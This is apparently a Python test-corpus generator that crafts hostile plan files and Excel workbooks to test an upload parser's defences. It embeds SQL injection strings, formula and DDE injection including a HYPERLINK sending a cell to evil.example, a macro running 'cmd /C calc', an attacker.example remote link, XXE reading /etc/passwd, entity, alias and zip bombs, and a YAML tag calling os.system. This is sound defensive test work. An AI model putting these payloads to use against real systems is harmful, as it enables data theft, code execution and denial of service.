"""Hostile input files for the plan loader and the Excel upload: `python -m tests.corpus.make_corpus`
writes the small ones into this folder; tests build the big ones (zip bombs, 10,000-row uploads) in a
temporary folder with the same functions, so the repository stays small.

Every file is crafted from a real plan (tests.factories) or a real workbook, then broken in one way,
so that a refusal shows the defence that caught it and not an earlier, unrelated check.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import yaml

from plan.io import plan_document, plan_yaml
from plan.model import DESCRIPTION_LIMIT, NOTE_LIMIT, TITLE_LIMIT
from plan.workbook import write_plan_workbook
from plan.xlsx import column_letters
from tests.factories import make_plan

HERE = Path(__file__).resolve().parent
SQL = "'; DROP TABLE status_revision; --"
SQL_CODE = "';DROP TABLE axis--"  # fits the 20 characters of a code
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1,2)")
BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)
    )
    + "]>"
)
EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# ---- zip surgery --------------------------------------------------------------------------


def rezip(
    data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """The same archive with some members replaced or added."""
    replace, add = replace or {}, add or {}
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for info in source.infolist():
            out.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, content in add.items():
            out.writestr(name, content)
    return buffer.getvalue()


def member(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def edit_member(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    return rezip(data, replace={name: change(member(data, name))})


def with_doctype(xml: bytes, doctype: str, reference: str) -> bytes:
    """The part with a DOCTYPE before its root element and the entity used in its first text."""
    text = xml.decode("utf-8")
    text = re.sub(r"^(<\?xml[^>]*\?>)?", lambda m: (m.group(0) or "") + doctype, text, count=1)
    return text.replace("<t>", f"<t>{reference}", 1).encode("utf-8")


def with_macro(data: bytes) -> bytes:
    """A macro-enabled workbook (vbaProject.bin and the .xlsm content type) renamed .xlsx."""
    types = member(data, "[Content_Types].xml").replace(SHEET_TYPE.encode(), MACRO_TYPE.encode())
    types = types.replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject" /></Types>',
    )
    rels = member(data, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin" Id="rIdVba" /></Relationships>',
    )
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n'
    )
    vba += b'Shell "cmd /C calc"\r\nEnd Sub\r\n'
    return rezip(
        data,
        replace={"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
        add={"xl/vbaProject.bin": vba},
    )


def with_external_link(data: bytes) -> bytes:
    """A workbook that links to another file on a remote share (Excel would fetch it on open)."""
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{REL}"><externalBook r:id="rId1"><sheetNames><sheetName val="x"/></sheetNames>'
        "</externalBook></externalLink>"
    )
    link_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/externalLinkPath" '
        'Target="file:///\\\\attacker.example\\share\\steal.xlsx" TargetMode="External"/></Relationships>'
    )
    types = member(data, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml" /></Types>',
    )
    rels = member(data, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Type="{REL}/externalLink" Target="externalLinks/externalLink1.xml" '
        'Id="rIdLink" /></Relationships>'.encode(),
    )
    workbook = member(data, "xl/workbook.xml").replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdLink"/></externalReferences>'
    )
    return rezip(
        data,
        replace={
            "[Content_Types].xml": types,
            "xl/_rels/workbook.xml.rels": rels,
            "xl/workbook.xml": workbook,
        },
        add={
            "xl/externalLinks/externalLink1.xml": link.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode(),
        },
    )


def with_formulas(data: bytes, sheet_part: str, formulas: tuple[str, ...] = FORMULAS) -> bytes:
    """Four text cells of the first data row turned into formulas (a link, a DDE command, +SUM, @SUM),
    stored as Excel stores them."""

    def change(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        head, row = text.split('<row r="2"', 1)
        chosen = iter(formulas)
        row = re.sub(
            r' t="inlineStr"><is><t>[^<]*</t></is>',
            lambda _: f"><f>{_escape(next(chosen).lstrip('='))}</f><v>0</v>",
            row,
            count=len(formulas),
        )
        return (head + '<row r="2"' + row).encode("utf-8")

    return edit_member(data, sheet_part, change)


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def zip_bomb(path: Path, *, inflated_mb: int = 210, name: str = "[Content_Types].xml") -> Path:
    """A small zip whose one member inflates to `inflated_mb` MB of spaces."""
    chunk = b" " * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open(name, "w", force_zip64=True) as out:
            for _ in range(inflated_mb):
                out.write(chunk)
    return path


def lying_zip_bomb(data: bytes) -> bytes:
    """A bomb that declares its member tiny: the sizes in both headers say 1 KB."""
    patched = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = patched.find(signature)
        if start >= 0 and patched[start + offset : start + offset + 4] != b"\xff\xff\xff\xff":
            patched[start + offset : start + offset + 4] = (1024).to_bytes(4, "little")
    return bytes(patched)


# ---- rows and cells where no spreadsheet program puts them ---------------------------------

HUGE_CELL = 45 * 1024 * 1024  # characters in one cell: far beyond Excel's 32,767
SHARED_STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def rows_xml(rows: list[tuple[int | None, list[tuple[int | None, str]]]]) -> str:
    """`<row>` elements: each a row number (None: no r attribute) and cells (column or None, text)."""
    out = []
    for number, cells in rows:
        out.append(f'<row r="{number}">' if number is not None else "<row>")
        for column, text in cells:
            where = f' r="{column_letters(column)}{number}"' if column and number else ""
            out.append(f'<c{where} t="inlineStr"><is><t>{_escape(text).replace(">", "&gt;")}</t></is></c>')
        out.append("</row>")
    return "".join(out)


def with_rows(data: bytes, sheet_part: str, rows: str, *, dimension: str = "keep") -> bytes:
    """The workbook with `rows` added at the end of a sheet's data; its `<dimension>` kept as it
    was ("keep"), removed ("drop", as some writers do), or left alone while rows lie beyond it."""

    def change(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        if dimension == "drop":
            text = re.sub(r"<dimension [^>]*/>", "", text, count=1)
        elif dimension != "keep":
            text = re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{dimension}" />', text, count=1)
        return text.replace("</sheetData>", rows + "</sheetData>", 1).encode("utf-8")

    return edit_member(data, sheet_part, change)


def last_row(data: bytes, sheet_part: str) -> int:
    return max(int(n) for n in re.findall(rb'<row r="(\d+)"', member(data, sheet_part)))


def with_shared_string(data: bytes, sheet_part: str, row: int, text_size: int) -> bytes:
    """A shared-strings part holding one string of `text_size` characters, used by a new row."""
    strings = (
        f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>'.encode()
        + b"x" * text_size
        + b"</t></si></sst>"
    )
    types = member(data, "[Content_Types].xml").replace(
        b"</Types>",
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SHARED_STRINGS_TYPE}" /></Types>'.encode(),
    )
    rels = member(data, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Type="{REL}/sharedStrings" Target="sharedStrings.xml" Id="rIdStrings" /></Relationships>'.encode(),
    )
    sheet = member(data, sheet_part).decode("utf-8")
    sheet = re.sub(r"<dimension [^>]*/>", "", sheet, count=1)
    sheet = sheet.replace(
        "</sheetData>", f'<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row></sheetData>', 1
    )
    return rezip(
        data,
        replace={
            "[Content_Types].xml": types,
            "xl/_rels/workbook.xml.rels": rels,
            sheet_part: sheet.encode(),
        },
        add={"xl/sharedStrings.xml": strings},
    )


def bounded_reading_files(workbook: bytes, sheet_part: str, prefix: str, *, far: int) -> dict[str, bytes]:
    """One workbook broken in each way a bounded reader must notice, by name."""
    last = last_row(workbook, sheet_part)
    return {
        f"{prefix}_far_row.xlsx": with_rows(
            workbook, sheet_part, rows_xml([(far, [(1, "far")])]), dimension="drop"
        ),
        f"{prefix}_beyond_dimension.xlsx": with_rows(
            workbook, sheet_part, rows_xml([(last + 40, [(1, "hidden")])]), dimension="keep"
        ),
        f"{prefix}_wide_row.xlsx": with_rows(
            workbook, sheet_part, rows_xml([(last + 1, [(16_384, "wide")])]), dimension="drop"
        ),
        f"{prefix}_rows_out_of_order.xlsx": with_rows(
            workbook, sheet_part, rows_xml([(2, [(1, "again")])]), dimension="drop"
        ),
        f"{prefix}_huge_cell.xlsx": with_rows(
            workbook, sheet_part, rows_xml([(last + 1, [(1, "x" * HUGE_CELL)])]), dimension="drop"
        ),
        f"{prefix}_huge_shared_string.xlsx": with_shared_string(workbook, sheet_part, last + 1, HUGE_CELL),
    }


def report_template_bytes() -> bytes:
    """The reporting template of make_plan(6, continuous=2) for SEF's focal point, March 2020."""
    import datetime as dt
    import tempfile

    from sqlmodel import Session

    from monitoring.auth import Role, actor_for, create_user
    from monitoring.db import engine_for, upgrade
    from monitoring.plan_store import load_plan
    from monitoring.report_workbook import report_template

    with tempfile.TemporaryDirectory() as folder:
        engine = engine_for(f"sqlite:///{folder}/corpus.sqlite")
        upgrade(engine)
        with Session(engine) as session:
            load_plan(session, make_plan(measures=6, continuous=2))
            user = create_user(session, email="fp@example.pt", name="Focal point", role=Role.FOCAL_POINT,
                               password="correct horse battery", bodies=("SEF",))  # fmt: skip
            session.commit()
            data = report_template(session, actor=actor_for(session, user), month="2020-03",
                                   today=dt.date(2020, 4, 5))  # fmt: skip
        engine.dispose()
    return data


def workbook_files() -> dict[str, bytes]:
    """Plan workbooks and reporting templates with rows and cells beyond what a reader takes."""
    return {
        **bounded_reading_files(plan_workbook(), "xl/worksheets/sheet5.xml", "plan", far=20_000_000),
        **bounded_reading_files(report_template_bytes(), "xl/worksheets/sheet2.xml", "upload", far=5_000_000),
    }


# ---- plan files ---------------------------------------------------------------------------


def plan_workbook() -> bytes:
    buffer = io.BytesIO()
    write_plan_workbook(make_plan(), buffer)
    return buffer.getvalue()


def sql_plan_document() -> dict:
    """A valid plan with SQL metacharacters in every text field (and in codes where they fit)."""
    document = plan_document(make_plan())
    _replace_text(document)
    renames = {"MAI": SQL, "E1": SQL_CODE}
    return _rename(document, renames)


def _replace_text(value: object, key: str = "") -> None:
    if isinstance(value, dict):
        for name, item in value.items():
            if name in ("pt", "en", "legal_basis", "provenance", "source", "unit"):
                value[name] = f"{item} {SQL}"
            else:
                _replace_text(item, name)
    elif isinstance(value, list):
        for item in value:
            _replace_text(item, key)


def _rename(value: object, renames: dict[str, str]) -> object:
    if isinstance(value, dict):
        return {k: _rename(v, renames) for k, v in value.items()}
    if isinstance(value, list):
        return [_rename(v, renames) for v in value]
    return renames.get(value, value) if isinstance(value, str) else value


def alias_bomb() -> str:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for n in range(2, 10):
        previous = chr(ord("a") + n - 2)
        this = chr(ord("a") + n - 1)
        lines.append(f"{this}: &{this} [{', '.join([f'*{previous}'] * 9)}]")
    lines.append("plan: {code: *i, country: *i, title: {pt: *i, en: *i}}")
    lines.append("bodies: [*i, *i]\naxes: *i\nobjectives: *i\nmeasures: *i")
    return "\n".join(lines) + "\n"


def duplicate_key_yaml() -> str:
    """The factory plan with a second `code:` under `plan:` (a plain load keeps the second)."""
    return plan_yaml(make_plan()).replace("  country: PT\n", "  country: PT\n  code: OTHER\n", 1)


def duplicate_key_json() -> str:
    """A measure whose JSON object names `lead_body` twice."""
    text = json.dumps(json.loads(json.dumps(plan_document(make_plan()), default=str)), indent=1)
    return text.replace('"lead_body": "MAI",', '"lead_body": "MAI",\n  "lead_body": "MTSSS",', 1)


def long_texts_document() -> dict:
    """Texts one character over their limits: a title, a description and a source note."""
    document = json.loads(json.dumps(plan_document(make_plan()), default=str))
    document["plan"]["title"]["pt"] = "T" * (TITLE_LIMIT + 1)
    document["measures"][0]["description"]["en"] = "D" * (DESCRIPTION_LIMIT + 1)
    document["measures"][1]["source"] = "S" * (NOTE_LIMIT + 1)
    return document


def plan_files() -> dict[str, bytes]:
    """The small plan files, by name."""
    valid = plan_document(make_plan())
    sql = sql_plan_document()
    titled = json.loads(json.dumps(valid, default=str))
    depth = 5000
    workbook = plan_workbook()
    return {
        "plan_sql_metacharacters.yaml": yaml.safe_dump(sql, allow_unicode=True, sort_keys=False).encode(),
        "plan_sql_metacharacters.json": json.dumps(sql, default=str, indent=1).encode(),
        "plan_yaml_alias_bomb.yaml": alias_bomb().encode(),
        "plan_deeply_nested_list.yaml": b"plan: " + b"[" * depth + b"]" * depth + b"\n",
        "plan_deeply_nested_mapping.yaml": b"plan: " + b"{a: " * depth + b"1" + b"}" * depth + b"\n",
        "plan_deeply_nested.json": b'{"plan": ' + b'{"a": ' * depth + b"1" + b"}" * depth + b"}",
        "plan_python_object_tag.yaml": b'plan: !!python/object/apply:os.system ["echo pwned"]\n',
        "plan_nul_byte.yaml": b"plan:\n  code: TE\x00ST\n",
        "plan_nul_escaped.json": _with_title(titled, "Plano\u0000oculto"),
        "plan_control_character.json": _with_title(titled, "Plano \u0007\u001b[31m vermelho"),
        "plan_lone_surrogate.json": _with_title(titled, "Plano \ud800"),
        "plan_invalid_utf8.yaml": b'plan:\n  code: TEST\n  title: {pt: "\xff\xfe\xc3\x28", en: x}\n',
        "plan_utf16.yaml": yaml.safe_dump(valid, allow_unicode=True).encode("utf-16"),
        "plan_wrong_types.yaml": b"plan: [1, 2]\nbodies: {a: b}\naxes: 7\nobjectives: null\nmeasures: 'x'\n",
        "plan_list_document.json": b"[1, 2, 3]",
        "plan_duplicate_key.yaml": duplicate_key_yaml().encode(),
        "plan_duplicate_key.json": duplicate_key_json().encode(),
        "plan_long_texts.json": json.dumps(long_texts_document()).encode(),
        "plan_escaped_bell.yaml": b'plan:\n  code: TEST\n  legal_basis: "Lei \\a n.\xc2\xba 1"\n',
        "plan_formulas.xlsx": with_formulas(workbook, "xl/worksheets/sheet5.xml"),
        "plan_macro.xlsx": with_macro(workbook),
        "plan_external_link.xlsx": with_external_link(workbook),
        "plan_billion_laughs.xlsx": edit_member(
            workbook, "xl/worksheets/sheet2.xml", lambda x: with_doctype(x, BILLION_LAUGHS, "&lol9;")
        ),
        "plan_external_entity.xlsx": edit_member(
            workbook, "xl/worksheets/sheet5.xml", lambda x: with_doctype(x, EXTERNAL_ENTITY, "&xxe;")
        ),
        "plan_external_entity_workbook_part.xlsx": edit_member(
            workbook, "xl/workbook.xml", lambda x: with_doctype(x, EXTERNAL_ENTITY, "")
        ),
        "plan_invalid_xml_sheet.xlsx": edit_member(
            workbook, "xl/worksheets/sheet3.xml", lambda x: x.replace(b"<t>", b"<t>\xff\x00", 1)
        ),
        "not_a_zip.xlsx": b"This is a text file renamed .xlsx\n",
        "truncated.xlsx": workbook[: len(workbook) // 2],
    }


def _with_title(document: dict, title: str) -> bytes:
    changed = json.loads(json.dumps(document))
    changed["plan"]["title"]["pt"] = title
    return json.dumps(changed).encode()  # ASCII escapes: the file itself is clean UTF-8


def main() -> None:
    for name, data in {**plan_files(), **workbook_files()}.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
